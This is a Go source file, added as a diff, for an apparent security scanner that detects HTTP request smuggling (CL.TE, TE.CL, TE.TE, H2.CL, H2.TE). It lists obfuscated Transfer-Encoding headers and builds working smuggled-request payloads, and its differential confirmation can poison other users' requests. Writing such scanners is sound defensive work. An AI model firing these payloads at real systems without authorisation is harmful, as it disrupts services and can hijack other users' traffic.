@@ -0,0 +1,397 @@
+package shttp
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand"
+	"net/http"
+	"net/url"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// Smuggling techniques, see SmuggleOptions.Techniques
+const (
+	SmuggleCLTE = "CL.TE" // the front honors Content-Length, the backend Transfer-Encoding
+	SmuggleTECL = "TE.CL" // the front honors Transfer-Encoding, the backend Content-Length
+	SmuggleTETE = "TE.TE" // both honor Transfer-Encoding but one of them misses an obfuscated header
+	SmuggleH2CL = "H2.CL" // an h2 front passes content-length on to an http/1.1 backend
+	SmuggleH2TE = "H2.TE" // an h2 front passes transfer-encoding on to an http/1.1 backend
+)
+
+// Detections of a finding
+const (
+	SmuggleTiming       = "timing"       // the backend waited for body bytes that never came
+	SmuggleDifferential = "differential" // a smuggled prefix changed the response to a following request
+)
+
+// DefaultTEObfuscations Transfer-Encoding header lines tried for TE.TE
+var DefaultTEObfuscations = []string{
+	"Transfer-Encoding: xchunked",
+	"Transfer-Encoding : chunked",
+	"Transfer-Encoding:\tchunked",
+	"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
+	"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
+	"X: X\nTransfer-Encoding: chunked",
+	"Transfer-Encoding\n : chunked",
+}
+
+// SmuggleOptions request smuggling detection
+type SmuggleOptions struct {
+	Techniques   []string `json:"techniques" yaml:"techniques" #:"检测的走私类型, 可选: CL.TE, TE.CL, TE.TE, H2.CL, H2.TE, 为空检测全部"`
+	Timeout      int      `json:"timeout" yaml:"timeout" #:"等待响应的超时时间(秒), 超时视为后端在等待剩余的请求体, 需明显大于正常响应时间, 默认 5"`
+	Differential bool     `json:"differential" yaml:"differential" #:"计时检测命中后, 是否再发送走私前缀并用后续请求的响应差异确认, 可能影响同一后端连接上其他用户的请求"`
+	Attempts     int      `json:"attempts" yaml:"attempts" #:"差异确认的最大尝试次数, 默认 3"`
+	Obfuscations []string `json:"obfuscations" yaml:"obfuscations" #:"TE.TE 检测使用的 Transfer-Encoding 头变形, 为空使用内置列表"`
+}
+
+// SmuggleProbe one request of a detection and what came back
+type SmuggleProbe struct {
+	Request  []byte        // bytes written, h2 requests as header lines followed by the data
+	Response []byte        // bytes read, h2 responses as header lines followed by the data
+	Status   int           // 0 when no response arrived
+	Duration time.Duration // from the end of the write to the response or the timeout
+	TimedOut bool
+	Err      error
+}
+
+// SmuggleFinding a detected desync with the requests that show it, the
+// baseline first
+type SmuggleFinding struct {
+	Technique   string
+	Detection   string
+	Obfuscation string // Transfer-Encoding line of a TE.TE finding
+	Desync      string // CL.TE or TE.CL, the way the hops of a TE.TE finding disagree
+	Probes      []*SmuggleProbe
+}
+
+// DetectSmuggling probes target for http request smuggling. Every technique is
+// first tried with a request that makes a desynced backend wait for body bytes
+// that never come, a timeout while the baseline answers in time is a finding.
+// With Differential, findings are confirmed by smuggling a request prefix and
+// checking that it changes the response to a normal request. The http/1.1 and
+// the h2 techniques only run when a baseline request of their protocol is
+// answered, it is an error when none is. Probes go through the proxy of the
+// client when there is one.
+func (c *Client) DetectSmuggling(ctx context.Context, target string, options *SmuggleOptions) ([]*SmuggleFinding, error) {
+	if options == nil {
+		options = &SmuggleOptions{}
+	}
+	u, err := url.Parse(target)
+	if err != nil {
+		return nil, err
+	}
+	if u.Scheme != "http" && u.Scheme != "https" {
+		return nil, fmt.Errorf("smuggle: unsupported scheme %q", u.Scheme)
+	}
+	s := &smuggler{client: c, ctx: ctx, target: target, u: u, options: options}
+	s.timeout = time.Duration(options.Timeout) * time.Second
+	if s.timeout <= 0 {
+		s.timeout = 5 * time.Second
+	}
+	s.attempts = options.Attempts
+	if s.attempts <= 0 {
+		s.attempts = 3
+	}
+	obfuscations := options.Obfuscations
+	if len(obfuscations) == 0 {
+		obfuscations = DefaultTEObfuscations
+	}
+	enabled := func(technique string) bool {
+		if len(options.Techniques) == 0 {
+			return true
+		}
+		for _, t := range options.Techniques {
+			if strings.EqualFold(t, technique) {
+				return true
+			}
+		}
+		return false
+	}
+
+	h1 := enabled(SmuggleCLTE) || enabled(SmuggleTECL) || enabled(SmuggleTETE)
+	if h1 {
+		s.baseline = s.probe(s.raw("Content-Length: 3", "x=1"))
+	}
+	if s.baseline != nil && s.baseline.Status != 0 {
+		// a TE.CL probe poisons a CL.TE backend, it only runs when CL.TE was ruled out
+		var desync bool
+		if enabled(SmuggleCLTE) {
+			desync = s.detectH1(SmuggleCLTE, SmuggleCLTE, "Transfer-Encoding: chunked", "")
+		}
+		if enabled(SmuggleTECL) && !desync {
+			desync = s.detectH1(SmuggleTECL, SmuggleTECL, "Transfer-Encoding: chunked", "")
+		}
+		// obfuscations only matter when both hops honor a plain Transfer-Encoding
+		if enabled(SmuggleTETE) && !desync {
+			for _, obfuscation := range obfuscations {
+				if s.detectH1(SmuggleTETE, SmuggleCLTE, obfuscation, obfuscation) ||
+					s.detectH1(SmuggleTETE, SmuggleTECL, obfuscation, obfuscation) {
+					break
+				}
+			}
+		}
+	}
+	if (enabled(SmuggleH2CL) || enabled(SmuggleH2TE)) && ctx.Err() == nil {
+		s.baselineH2 = s.probeH2(s.headersH2("content-length", "3"), []byte("x=1"))
+		if s.baselineH2.Status != 0 {
+			if enabled(SmuggleH2CL) {
+				s.detectH2(SmuggleH2CL)
+			}
+			if enabled(SmuggleH2TE) {
+				s.detectH2(SmuggleH2TE)
+			}
+		}
+	}
+	if ctx.Err() != nil {
+		return s.findings, ctx.Err()
+	}
+	for _, baseline := range []*SmuggleProbe{s.baseline, s.baselineH2} {
+		if baseline != nil && baseline.Status != 0 {
+			return s.findings, nil
+		}
+	}
+	if s.baseline != nil {
+		return nil, fmt.Errorf("smuggle: baseline request got no response: %v", s.baseline.Err)
+	}
+	return nil, fmt.Errorf("smuggle: h2 baseline request got no response: %v", s.baselineH2.Err)
+}
+
+type smuggler struct {
+	client   *Client
+	ctx      context.Context
+	target   string
+	u        *url.URL
+	options  *SmuggleOptions
+	timeout  time.Duration
+	attempts int
+
+	baseline   *SmuggleProbe
+	baselineH2 *SmuggleProbe
+	findings   []*SmuggleFinding
+}
+
+// raw POST to the target with the header lines and the body
+func (s *smuggler) raw(headers, body string) []byte {
+	var b strings.Builder
+	b.WriteString("POST " + s.u.RequestURI() + " HTTP/1.1\r\n")
+	b.WriteString("Host: " + s.u.Host + "\r\n")
+	for key, value := range s.client.ClientOptions.Headers {
+		b.WriteString(key + ": " + value + "\r\n")
+	}
+	b.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
+	b.WriteString(headers + "\r\n\r\n")
+	b.WriteString(body)
+	return []byte(b.String())
+}
+
+// smugglePrefix request line of a path nothing answers with the baseline's
+// status, the header it ends with swallows the request line of the victim
+func smugglePrefix() string {
+	return fmt.Sprintf("GET /smuggle-%d HTTP/1.1\r\nX-Ignore: X", rand.Int63())
+}
+
+// detectH1 timing probe of desync, confirmed by a differential one when asked
+func (s *smuggler) detectH1(technique, desync, teLine, obfuscation string) bool {
+	var timing []byte
+	switch desync {
+	case SmuggleCLTE:
+		// the backend reads the chunk and waits for the next size line, a
+		// single hop gets the invalid one and answers at once
+		timing = s.raw("Content-Length: 4\r\n"+teLine, "1\r\nA\r\nX\r\n")
+	case SmuggleTECL:
+		// the backend waits for the byte the front didn't forward
+		timing = s.raw("Content-Length: 6\r\n"+teLine, "0\r\n\r\nX")
+	}
+	probe := s.probe(timing)
+	if !probe.TimedOut {
+		return false
+	}
+	finding := &SmuggleFinding{Technique: technique, Detection: SmuggleTiming, Probes: []*SmuggleProbe{s.baseline, probe}}
+	if technique == SmuggleTETE {
+		finding.Obfuscation, finding.Desync = obfuscation, desync
+	}
+	s.findings = append(s.findings, finding)
+	if !s.options.Differential {
+		return true
+	}
+
+	var attack []byte
+	switch desync {
+	case SmuggleCLTE:
+		body := "0\r\n\r\n" + smugglePrefix()
+		attack = s.raw("Content-Length: "+strconv.Itoa(len(body))+"\r\n"+teLine, body)
+	case SmuggleTECL:
+		// the smuggled request's body takes the first bytes of the victim
+		smuggled := strings.TrimSuffix(smugglePrefix(), "\r\nX-Ignore: X") +
+			"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
+		size := strconv.FormatInt(int64(len(smuggled)), 16)
+		attack = s.raw("Content-Length: "+strconv.Itoa(len(size)+2)+"\r\n"+teLine, size+"\r\n"+smuggled+"\r\n0\r\n\r\n")
+	}
+	s.confirm(finding, func() (*SmuggleProbe, *SmuggleProbe) {
+		return s.probe(attack), s.probe(s.baseline.Request)
+	}, s.baseline.Status)
+	return true
+}
+
+// detectH2 timing probe of an h2 downgrade desync, confirmed by a differential one when asked
+func (s *smuggler) detectH2(technique string) {
+	var probe *SmuggleProbe
+	switch technique {
+	case SmuggleH2CL:
+		// the backend waits for the bytes the content-length promises
+		probe = s.probeH2(s.headersH2("content-length", "10"), []byte("x=1"))
+	case SmuggleH2TE:
+		// the backend waits for the last chunk
+		probe = s.probeH2(s.headersH2("transfer-encoding", "chunked"), []byte("3\r\nx=1\r\n"))
+	}
+	if !probe.TimedOut {
+		return
+	}
+	finding := &SmuggleFinding{Technique: technique, Detection: SmuggleTiming, Probes: []*SmuggleProbe{s.baselineH2, probe}}
+	s.findings = append(s.findings, finding)
+	if !s.options.Differential {
+		return
+	}
+
+	var (
+		headers []H2Header
+		data    []byte
+	)
+	switch technique {
+	case SmuggleH2CL:
+		headers, data = s.headersH2("content-length", "0"), []byte(smugglePrefix())
+	case SmuggleH2TE:
+		headers, data = s.headersH2("transfer-encoding", "chunked"), []byte("0\r\n\r\n"+smugglePrefix())
+	}
+	s.confirm(finding, func() (*SmuggleProbe, *SmuggleProbe) {
+		return s.probeH2(headers, data), s.probeH2(s.headersH2("content-length", "3"), []byte("x=1"))
+	}, s.baselineH2.Status)
+}
+
+// confirm sends attacks each followed by a normal request, the finding is
+// confirmed when a follow-up gets another status than the baseline
+func (s *smuggler) confirm(timing *SmuggleFinding, send func() (*SmuggleProbe, *SmuggleProbe), status int) {
+	for i := 0; i < s.attempts && s.ctx.Err() == nil; i++ {
+		attack, followUp := send()
+		if followUp.Status == 0 || followUp.Status == status {
+			continue
+		}
+		finding := *timing
+		finding.Detection = SmuggleDifferential
+		finding.Probes = []*SmuggleProbe{timing.Probes[0], attack, followUp}
+		s.findings = append(s.findings, &finding)
+		return
+	}
+}
+
+// probe raw request on a connection of its own, the first response is read
+func (s *smuggler) probe(raw []byte) *SmuggleProbe {
+	probe := &SmuggleProbe{Request: raw}
+	conn, err := s.client.DialRaw(s.ctx, s.target)
+	if err != nil {
+		probe.Err = err
+		return probe
+	}
+	defer conn.Close()
+	stop := context.AfterFunc(s.ctx, func() { _ = conn.SetDeadline(time.Now()) })
+	defer stop()
+
+	_ = conn.SetDeadline(time.Now().Add(s.timeout))
+	if _, err = conn.Write(raw); err != nil {
+		probe.Err = err
+		return probe
+	}
+	start := time.Now()
+	var received bytes.Buffer
+	resp, err := http.ReadResponse(bufio.NewReader(io.TeeReader(conn, &received)), nil)
+	if err == nil {
+		_, err = io.Copy(io.Discard, io.LimitReader(resp.Body, s.client.ClientOptions.MaxRespBodySize))
+		resp.Body.Close()
+		probe.Status = resp.StatusCode
+	}
+	probe.Duration = time.Since(start)
+	probe.Response = received.Bytes()
+	s.setProbeErr(probe, err)
+	return probe
+}
+
+// headersH2 POST to the target with one more header
+func (s *smuggler) headersH2(name, value string) []H2Header {
+	headers := []H2Header{
+		{":method", http.MethodPost},
+		{":authority", s.u.Host},
+		{":scheme", s.u.Scheme},
+		{":path", s.u.RequestURI()},
+	}
+	for key, value := range s.client.ClientOptions.Headers {
+		headers = append(headers, H2Header{strings.ToLower(key), value})
+	}
+	return append(headers, H2Header{"content-type", "application/x-www-form-urlencoded"}, H2Header{name, value})
+}
+
+// probeH2 h2 request on a connection of its own
+func (s *smuggler) probeH2(headers []H2Header, data []byte) *SmuggleProbe {
+	probe := &SmuggleProbe{Request: h2Evidence(headers, data)}
+	if err := s.client.ClientOptions.Limiter.Wait(s.ctx); err != nil {
+		probe.Err = err
+		return probe
+	}
+	conn, err := s.client.DialH2(s.ctx, s.target, nil)
+	if err != nil {
+		probe.Err = err
+		return probe
+	}
+	defer conn.Close()
+	stop := context.AfterFunc(s.ctx, func() { _ = conn.Conn().SetDeadline(time.Now()) })
+	defer stop()
+
+	id := conn.NextStreamID()
+	if err = conn.WriteHeaders(id, headers, false); err == nil {
+		err = conn.WriteData(id, data, true)
+	}
+	if err != nil {
+		probe.Err = err
+		return probe
+	}
+	start := time.Now()
+	resp, err := conn.ReadResponse(id, s.timeout)
+	probe.Duration = time.Since(start)
+	if resp.Headers != nil {
+		probe.Response = h2Evidence(resp.Headers, resp.Body)
+		probe.Status, _ = strconv.Atoi(resp.Status())
+	}
+	if err == nil && resp.Reset {
+		err = fmt.Errorf("smuggle: stream %d reset: %v", id, resp.ErrCode)
+	}
+	s.setProbeErr(probe, err)
+	return probe
+}
+
+func (s *smuggler) setProbeErr(probe *SmuggleProbe, err error) {
+	if err == nil {
+		return
+	}
+	if errors.Is(err, os.ErrDeadlineExceeded) && s.ctx.Err() == nil {
+		probe.TimedOut = true
+		return
+	}
+	probe.Err = err
+}
+
+// h2Evidence text form of an h2 message
+func h2Evidence(headers []H2Header, data []byte) []byte {
+	var b bytes.Buffer
+	for _, h := range headers {
+		b.WriteString(h.Name + ": " + h.Value + "\r\n")
+	}
+	b.WriteString("\r\n")
+	b.Write(data)
+	return b.Bytes()
+}